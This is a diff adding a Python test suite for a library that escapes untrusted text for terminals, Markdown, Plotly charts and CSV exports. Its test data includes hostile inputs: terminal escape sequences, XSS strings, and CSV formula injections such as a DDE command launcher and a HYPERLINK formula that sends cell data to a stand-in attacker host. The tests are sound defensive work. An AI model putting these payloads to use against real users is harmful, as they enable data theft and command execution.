@@ -1,0 +1,222 @@
+"""Escaping of untrusted text for the terminal, Markdown, Plotly and CSV."""
+
+from __future__ import annotations
+
+import html
+import re
+
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from pmtimeline.escaping import (
+    csv_cell,
+    csv_column,
+    defang_urls,
+    escape_terminal,
+    markdown_cell,
+    markdown_code,
+    markdown_text,
+    plotly_text,
+    shorten,
+    strip_controls,
+)
+
+#: Characters that matter to some renderer, plus controls and bidi overrides.
+NASTY = st.text(
+    alphabet=st.sampled_from(list("`*_{}[]()#+-.!|<>~@:&;\\/=\"' \t\nabcAB12\x1b\x07\x9b\u202e\u2066\r\x00")),
+    max_size=40,
+)
+
+
+def md() -> MarkdownIt:
+    return MarkdownIt("gfm-like", {"linkify": False})
+
+
+def visible(text: str) -> str:
+    """What the escapers show of ``text`` (controls made visible, URLs defanged)."""
+    return defang_urls(strip_controls(text))
+
+
+# -- terminal -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "\x1b[2J\x1b[H",
+        "\x1b]0;title\x07",
+        "\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\",
+        "\x1b]52;c;QUJD\x07",
+        "\x1b[8mhidden",
+        "OK\rFAIL",
+        "abc\x08\x08\x08",
+        "\u202etxt.exe",
+        "\x9b31m",
+    ],
+)
+def test_terminal_output_has_no_control_bytes(payload: str) -> None:
+    out = escape_terminal(payload)
+    assert not re.search("[\x00-\x08\x0a-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out)
+    # The text stays readable: escapes are visible.
+    assert "\\x" in out or "\\u" in out
+
+
+def test_terminal_keeps_tabs_and_shortens() -> None:
+    assert escape_terminal("a\tb") == "a\tb"
+    assert escape_terminal("x" * 50, limit=10) == "x" * 9 + "…"
+
+
+def test_shorten() -> None:
+    assert shorten("abc", 3) == "abc"
+    assert shorten("abcd", 3) == "ab…"
+
+
+def test_defang_urls() -> None:
+    assert defang_urls("see https://evil.example/login now") == "see hxxps://evil[.]example/login now"
+    assert defang_urls("ftp://files.example") == "fxp://files[.]example"
+    assert defang_urls("no url here. really.") == "no url here. really."
+
+
+# -- Markdown -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("plain", "`plain`"),
+        ("a`b", "``a`b``"),
+        ("``x``", "``` ``x`` ```"),
+        (" lead", "`  lead `"),
+        ("", "` `"),
+        ("line1\nline2", "`line1⏎line2`"),
+    ],
+)
+def test_markdown_code_fences(text: str, expected: str) -> None:
+    assert markdown_code(text) == expected
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "@everyone",
+        "<img src=https://attacker.example/x.png>",
+        "![](https://attacker.example/b?c=1)",
+        "```\n## Fake section",
+        "<!--",
+        "<details open><summary>x</summary>",
+        "[x](javascript:alert(1))",
+        "#1",
+        "\n# Root cause: the intern",
+    ],
+)
+def test_markdown_payloads_render_as_literal_code(payload: str) -> None:
+    rendered = md().render(f"Value: {markdown_code(payload)}\n")
+    assert rendered.count("<code>") == 1
+    for tag in ("<img", "<a ", "<details", "<h1", "<h2", "<!--"):
+        assert tag not in rendered
+    code = re.search(r"<code>(.*)</code>", rendered, flags=re.S)
+    assert code is not None
+    assert html.unescape(code.group(1)) == visible(payload)
+
+
+@given(NASTY)
+@settings(max_examples=300, deadline=None)
+def test_markdown_code_always_renders_one_literal_span(text: str) -> None:
+    rendered = md().render(f"Value: {markdown_code(text, None)}\n")
+    code = re.fullmatch(r"<p>Value: <code>(.*)</code></p>\n", rendered, flags=re.S)
+    assert code is not None, rendered
+    assert html.unescape(code.group(1)) == (visible(text) or " ")
+
+
+@given(NASTY)
+@settings(max_examples=300, deadline=None)
+def test_markdown_cell_stays_in_its_cell(text: str) -> None:
+    table = f"| a | b |\n|---|---|\n| {markdown_cell(text, None)} | end |\n"
+    rendered = md().render(table)
+    cells = re.findall(r"<td>(.*?)</td>", rendered, flags=re.S)
+    assert len(cells) == 2, rendered
+    assert cells[1] == "end"
+    code = re.fullmatch(r"<code>(.*)</code>", cells[0], flags=re.S)
+    assert code is not None, cells[0]
+    assert html.unescape(code.group(1)) == (visible(text) or " ")
+
+
+@given(NASTY)
+@settings(max_examples=300, deadline=None)
+def test_markdown_text_is_literal_prose(text: str) -> None:
+    rendered = md().render(f"Title: {markdown_text(text, None)}\n")
+    body = re.fullmatch(r"<p>Title:(.*)</p>\n", rendered, flags=re.S)
+    assert body is not None, rendered
+    # No element at all: every markup character came out as text.
+    assert "<" not in body.group(1)
+    assert html.unescape(body.group(1)).strip() == visible(text).strip()
+
+
+def test_markdown_text_escapes_mentions_and_links() -> None:
+    assert markdown_text("@team [x](y)") == "\\@team \\[x\\]\\(y\\)"
+    assert markdown_text("<b>") == "&lt;b&gt;"
+
+
+# -- Plotly ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '<a href="javascript:alert(1)">x</a>',
+        '<a href="https://evil.example/">click</a>',
+        "<img src=x onerror=alert(1)>",
+        "</script><script>alert(1)</script>",
+        '<span style="font-size:300px;fill:red">BIG</span>',
+        "a<br>b",
+    ],
+)
+def test_plotly_text_has_no_tags(payload: str) -> None:
+    out = plotly_text(payload)
+    assert "<" not in out
+    assert ">" not in out
+    assert html.unescape(out) == payload
+
+
+def test_plotly_text_strips_bidi_and_shortens() -> None:
+    assert plotly_text("\u202egnp.exe") == "\\u202egnp.exe"
+    assert len(plotly_text("A" * 100_000)) == 200
+
+
+# -- CSV ------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '=HYPERLINK("https://attacker.example/?d="&A1,"click")',
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "\t=1+1",
+        "\r=1+1",
+        "\x00x",
+    ],
+)
+def test_csv_cell_prefixes_formula_triggers(payload: str) -> None:
+    assert csv_cell(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("value", [-5, -2.5, 3, "plain", "a=b", None])
+def test_csv_cell_leaves_numbers_and_plain_text(value: object) -> None:
+    assert csv_cell(value) == value
+
+
+def test_csv_column_matches_csv_cell() -> None:
+    values = ["=1+1", "ok", None, "-2", "@x", "\tx", " =x"]
+    column = csv_column(pd.Series(values, dtype="string[pyarrow]"))
+    assert column.tolist() == [csv_cell(v) if v is not None else pd.NA for v in values]
+    assert str(column.dtype) == "string"
+    mixed = csv_column(pd.Series(["=1", -5, 2.5, None], dtype=object))
+    assert mixed.tolist() == ["'=1", -5, 2.5, None]
+    numbers = pd.Series([-5, 3])
+    assert csv_column(numbers) is numbers
